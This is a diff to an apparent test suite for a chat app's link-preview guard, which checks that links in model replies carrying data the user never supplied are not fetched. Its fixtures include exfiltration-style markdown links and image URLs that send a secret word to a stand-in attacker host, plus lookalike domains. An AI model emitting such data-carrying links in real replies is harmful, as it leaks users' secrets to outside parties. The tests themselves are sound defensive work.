@@ -12,7 +12,8 @@ const request = {
         { text: "Menu: https://www.choyxona.uz/menyu?til=uz and t.me/choyxona. Write to info@choyxona.uz" },
       ],
     },
-    { role: "model", parts: [{ text: "See instagram.com/choyxona/" }] },
+    { role: "model", parts: [{ text: "See evil.example/again" }] },
+    { role: "user", parts: [{ text: "And instagram.com/choyxona/" }] },
   ],
 } as const;
 const may = (markdown: string) => previewsOf(request)(render(markdown));
@@ -36,6 +37,7 @@ test("a link that carries more than what was given is fetched by nobody: bare, l
     "[Menyu](https://evil.example/parol)",
     "![](https://evil.example/p.png?d=parol)",
     "evil.example/parol",
+    "evil.example/again",
     "https://choyxona.uz/menyu?til=parol",
     "https://choyxona.uz.evil.example/",
     "https://parol.choyxona.uz",
